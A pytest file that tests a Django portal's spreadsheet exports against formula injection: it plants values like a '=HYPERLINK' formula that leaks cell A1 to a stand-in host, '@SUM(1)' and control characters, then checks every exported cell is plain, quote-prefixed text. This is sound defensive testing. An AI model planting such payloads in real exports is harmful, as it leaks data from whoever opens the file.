"""Every export through the one safe writer: whatever a user typed, no cell is a formula, the text is
kept as typed (minus the characters XML forbids) and the export never fails.

The demo district is loaded, then every text field that reaches an export is overwritten with values a
spreadsheet would read as a formula, a DDE lead-in or a control character; then every export is opened
with openpyxl, cell by cell.
"""

from __future__ import annotations

import io
import itertools

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from conftest import client_for
from lean_portal.exporters import FORMULA_LEADS, clean_text, number_text, sheet_title

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://x?leak="&A1,"Подробнее")',
    "=1+1",
    "+7 999",
    "-5",
    "@SUM(1)",
    "Название\x01 с управляющим символом",
    "\tс табуляцией",
]

# The text fields that reach an export, by model (choices and codes are not typed by users).
FIELDS = {
    "orgs.Sphere": ["name"],
    "orgs.Organisation": ["short_name", "full_name"],
    "orgs.Employee": ["last_name", "first_name", "middle_name", "position"],
    "projects.Project": [
        "title",
        "approver_name",
        "approver_position",
        "customer",
        "process",
        "process_start",
        "process_end",
        "effects",
        "replicates_source",
    ],
    "projects.Goal": ["name", "unit"],
    "projects.TeamMember": ["role"],
    "registries.Suggestion": [
        "title",
        "problem",
        "solution",
        "expected_effect",
        "achieved_effect",
        "rejection_reason",
    ],
    "registries.Training": ["provider"],
    "registries.ModelSite": ["title", "auditor", "result"],
    "reporting.ReportProject": ["progress", "problems", "help_needed"],
    # Reference data the administrator may edit (Django admin); its codes stay (the definitions key on them).
    "plan.Indicator": ["wording", "unit"],
}
UNIQUE_FIELDS = {("orgs.Sphere", "name"), ("orgs.Organisation", "full_name")}


def plant() -> set[str]:
    """Overwrites the fields with the planted values; returns every value stored."""
    from django.apps import apps

    stored: set[str] = set()
    values = itertools.cycle(PLANTED)
    for label, fields in FIELDS.items():
        model = apps.get_model(label)
        objects = list(model.objects.order_by("pk"))
        for obj in objects:
            for field in fields:
                value = next(values)
                if (label, field) in UNIQUE_FIELDS:
                    value = f"{value} {obj.pk}"
                value = value[: model._meta.get_field(field).max_length or None]
                setattr(obj, field, value)
                stored.add(value)
        model.objects.bulk_update(objects, fields)
    return stored


def refreeze_reports() -> None:
    """Received reports carry a frozen snapshot: frozen again from the planted data."""
    from reporting.figures import build_figures
    from reporting.models import QuarterlyReport

    for report in QuarterlyReport.objects.received():
        report.snapshot = build_figures(report)
        report.save(update_fields=["snapshot"])


def export_urls():
    from orgs.models import Municipality
    from plan.models import Plan
    from reporting.models import QuarterlyReport

    urls = [
        (reverse("projects:export"), {}),
        (reverse("registries:suggestion-export"), {}),
        (reverse("registries:training-export"), {}),
        (reverse("registries:modelsite-export"), {}),
        (reverse("registries:recognition-export"), {}),
        (reverse("scoring:ranking-export"), {}),
    ]
    periods = QuarterlyReport.objects.received().values_list("year", "quarter").distinct()
    assert periods, "the demo district has received reports"
    # The administrator reads every municipality: a municipality's export names it.
    municipality = Municipality.objects.default().slug
    urls += [(reverse("reporting:export"), {"year": y, "quarter": q, "municipality": municipality}) for y, q in periods]
    for plan in Plan.objects.select_related("municipality"):
        urls += [
            (reverse("plan:report-xlsx"), {"plan": plan.pk, "year": year, "municipality": plan.municipality.slug})
            for year in plan.years
        ]
    urls.append((reverse("region:comparison-xlsx"), {}))
    return urls


def test_nothing_typed_becomes_a_formula_or_breaks_an_export(client, settings):
    settings.DEMO_DATA_ALLOWED = True
    call_command("load_demo", stdout=io.StringIO())
    stored = plant()
    refreeze_reports()
    expected = {clean_text(value) for value in stored}
    from orgs.models import User

    client_for(client, User.objects.get(username="admin"))
    seen: set[str] = set()
    for url, params in export_urls():
        response = client.get(url, params)
        assert response.status_code == 200, (url, params)
        book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        assert book.properties.creator == "Бережливый портал" and book.properties.title
        for ws in book.worksheets:
            assert len(ws.title) <= 31
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                        assert "\x01" not in cell.value
                        if cell.value.startswith(FORMULA_LEADS):
                            assert cell.quotePrefix, (url, ws.title, cell.coordinate, cell.value)
                        if cell.value in expected:
                            seen.add(cell.value)
    # Every planted kind reached a cell of its own, as typed minus the control character.
    for value in PLANTED:
        assert any(s == clean_text(value) or s.startswith(clean_text(value) + " ") for s in seen), value
    assert "Название с управляющим символом" in seen


def test_planted_values_in_the_project_registry_cell_by_cell(client, department_user, unit):
    from projects.tests.factories import FullProjectFactory, GoalFactory

    project = FullProjectFactory(organisation=unit, title=PLANTED[0], process="=1+1", customer="@SUM(1)")
    project.effects = "-5"
    project.save()
    GoalFactory(project=project, name="+7 999", unit="дн\x01ей", current_value=3, target_value="1.50")
    response = client_for(client, department_user).get(reverse("projects:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    for title, typed in [("Название бережливого проекта", PLANTED[0]), ("Процесс", "=1+1"), ("Заказчик", "@SUM(1)")]:
        assert row[title].value == typed and row[title].data_type == "s" and row[title].quotePrefix
    # Goals as Russian text: no «3.00 → 1.50».
    assert row["Цели (текущий → целевой)"].value.endswith("; +7 999, дней: 3 → 1,5")


def test_sheet_titles_are_cut_between_words_and_unique():
    assert sheet_title("Оценка значимости бережливых проектов") == "Оценка значимости бережливых"
    assert sheet_title("По организациям и проектам") == "По организациям и проектам"
    assert sheet_title("Итоги: 2026/1 [черновик]") == "Итоги 2026 1 черновик"
    assert sheet_title("Лист", ["лист"]) == "Лист (2)"
    assert len(sheet_title("Ы" * 40)) == 31
    assert number_text("1250.50") == "1\u00a0250,5" and number_text(3) == "3"


def test_print_setup_header_and_formats(tmp_path):
    import datetime
    from decimal import Decimal

    from lean_portal.exporters import Column, Exporter

    class Wide(Exporter):
        identifier = "wide"
        title = "Широкая таблица с длинным названием документа"
        columns = [
            Column("Название бережливого проекта с очень длинным заголовком", 20),
            Column("Число", 10, "int"),
            Column("Доля", 10, "percent"),
            Column("Сумма", 10, "decimal"),
            Column("Описание", 80),
        ]

        def rows(self):
            yield ["а", 3, 0.5, Decimal("36.00"), "длинный текст " * 20]
            yield ["б", 4, 1, Decimal("2.75"), datetime.date(2026, 1, 2)]
            yield ["в", float("nan"), None, Decimal("Infinity"), True]

    path = tmp_path / "wide.xlsx"
    Wide().write(path)
    book = load_workbook(path)
    ws = book.active
    assert ws.title == "Широкая таблица с длинным"
    assert book.properties.title == Wide.title and book.properties.creator == "Бережливый портал"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E4"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.row_dimensions[1].height >= 45  # three lines of the wrapped header title
    assert ws["A1"].font.b and ws["A1"].alignment.wrap_text and ws["E2"].alignment.wrap_text
    assert [(c.value, c.number_format) for c in ws[2]][1:4] == [(3, "0"), (0.5, "0.0%"), (36, "#,##0")]
    assert [(c.value, c.number_format) for c in ws[3]][1:4] == [(4, "0"), (1, "0%"), (2.75, "#,##0.0##")]
    assert ws["E3"].number_format == "DD.MM.YYYY"
    assert [c.value for c in ws[4]] == ["в", None, None, None, "да"]  # no NaN or infinity in the file
